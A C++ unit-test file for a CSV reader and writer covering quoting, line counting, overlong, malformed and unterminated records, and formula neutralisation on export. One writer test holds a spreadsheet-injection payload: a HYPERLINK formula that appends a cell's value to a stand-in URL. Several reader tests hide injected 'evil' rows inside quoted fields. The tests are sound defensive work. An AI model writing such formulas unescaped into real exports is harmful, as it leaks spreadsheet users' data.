#include "imports/csv.hpp"

#include <gtest/gtest.h>

#include <memory>

namespace broadsheet::imports {
namespace {

struct FileCloser {
  void operator()(std::FILE* f) const { std::fclose(f); }
};

std::unique_ptr<std::FILE, FileCloser> file_with(const std::string& text) {
  std::FILE* f = std::tmpfile();
  std::fwrite(text.data(), 1, text.size(), f);
  std::rewind(f);
  return std::unique_ptr<std::FILE, FileCloser>(f);
}

TEST(CsvReader, PlainQuotedAndCrlf) {
  auto f =
      file_with("email,name\r\na@b.org,\"Lovelace, Ada\"\n\"q\"\"x\",\"multi\nline\"\nlast,row");
  CsvReader r(f.get(), 1000);
  std::vector<std::string> fields;
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(fields, (std::vector<std::string>{"email", "name"}));
  EXPECT_EQ(r.line(), 1u);
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(fields, (std::vector<std::string>{"a@b.org", "Lovelace, Ada"}));
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(fields, (std::vector<std::string>{"q\"x", "multi\nline"}));
  EXPECT_EQ(r.line(), 3u);
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(r.line(), 5u);
  EXPECT_EQ(fields, (std::vector<std::string>{"last", "row"}));
  EXPECT_EQ(r.next(fields), CsvReader::Outcome::end);
}

TEST(CsvReader, LongRecordIsSkippedAndReadingGoesOn) {
  std::string text = "a@b.org,x\n" + std::string(5000, 'z') + "\"open\nnext@b.org,y\n";
  auto f = file_with(text);
  CsvReader r(f.get(), 100);
  std::vector<std::string> fields;
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::too_long);
  EXPECT_EQ(r.line(), 2u);
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(r.line(), 3u);
  EXPECT_EQ(fields[0], "next@b.org");
}

TEST(CsvReader, ALongQuotedFieldIsSkippedToTheTrueEndOfItsRecord) {
  // The quoted field passes the bound on its first line; the lines after it, up to the
  // closing quote, are inside the field and must not come out as records.
  const std::string text = "a@b.org,\"" + std::string(150, 'z') + "\nevil@x.org,Evil\n" +
                           std::string(150, 'z') + "\n\"\nreal@b.org,Real\n";
  auto f = file_with(text);
  CsvReader r(f.get(), 100);
  std::vector<std::string> fields;
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::too_long);
  EXPECT_EQ(r.line(), 1u);
  EXPECT_TRUE(fields.empty());
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(r.line(), 5u);
  EXPECT_EQ(fields, (std::vector<std::string>{"real@b.org", "Real"}));
  EXPECT_EQ(r.next(fields), CsvReader::Outcome::end);
}

TEST(CsvReader, MalformedRecordsAreRejectedWholeAndReadingGoesOnAfterThem) {
  auto f = file_with(
      "a\"b@c.org,x\n"                         // a quote inside an unquoted field
      "\"ab\"c@d.org,\"multi\nevil@x.org\"\n"  // text after a closing quote; spans 2 lines
      "\"ok\"\r\n"                             // a closing quote before CRLF is fine
      "good@b.org,\"cr\r\"\n");                // a CR inside quotes is kept
  CsvReader r(f.get(), 1000);
  std::vector<std::string> fields;
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::malformed);
  EXPECT_EQ(r.line(), 1u);
  EXPECT_STREQ(r.problem(), "a quote inside an unquoted field");
  EXPECT_TRUE(fields.empty());
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::malformed);
  EXPECT_EQ(r.line(), 2u);
  EXPECT_STREQ(r.problem(), "text after a closing quote");
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(r.line(), 4u);
  EXPECT_EQ(fields, (std::vector<std::string>{"ok"}));
  ASSERT_EQ(r.next(fields), CsvReader::Outcome::record);
  EXPECT_EQ(fields, (std::vector<std::string>{"good@b.org", "cr\r"}));
  EXPECT_STREQ(r.problem(), "");
  EXPECT_EQ(r.next(fields), CsvReader::Outcome::end);
}

TEST(CsvReader, AnUnterminatedQuotePastTheBoundIsReportedAsSuch) {
  auto f = file_with("a,\"" + std::string(500, 'q') + "\nb@c.org,B\n");
  CsvReader r(f.get(), 100);
  std::vector<std::string> fields;
  EXPECT_EQ(r.next(fields), CsvReader::Outcome::unterminated);
  EXPECT_EQ(r.line(), 1u);
  EXPECT_TRUE(fields.empty());
  EXPECT_EQ(r.next(fields), CsvReader::Outcome::end);
}

TEST(CsvReader, UnterminatedQuoteAndEmptyFile) {
  auto f = file_with("a,\"never closed\n");
  CsvReader r(f.get(), 100);
  std::vector<std::string> fields;
  EXPECT_EQ(r.next(fields), CsvReader::Outcome::unterminated);
  auto empty = file_with("");
  CsvReader e(empty.get(), 100);
  EXPECT_EQ(e.next(fields), CsvReader::Outcome::end);
}

TEST(CsvWriter, QuotesOnlyWhenNeeded) {
  std::string out;
  csv_append_field(out, "plain");
  out += ',';
  csv_append_field(out, "a,\"b\"");
  EXPECT_EQ(out, "plain,\"a,\"\"b\"\"\"");
}

TEST(CsvWriter, NeutralisesFormulas) {
  auto field = [](std::string_view f) {
    std::string out;
    csv_append_field(out, f);
    return out;
  };
  EXPECT_EQ(field("=HYPERLINK(\"http://x\"&A2,\"Open\")"),
            "\"'=HYPERLINK(\"\"http://x\"\"&A2,\"\"Open\"\")\"");
  EXPECT_EQ(field("+1"), "'+1");
  EXPECT_EQ(field("-2+3"), "'-2+3");
  EXPECT_EQ(field("@SUM(A1)"), "'@SUM(A1)");
  EXPECT_EQ(field("\t=1"), "'\t=1");
  EXPECT_EQ(field("\r=1"), "\"'\r=1\"");
  EXPECT_EQ(field("Ada = Lovelace"), "Ada = Lovelace");
  EXPECT_EQ(field(""), "");
}

}  // namespace
}  // namespace broadsheet::imports
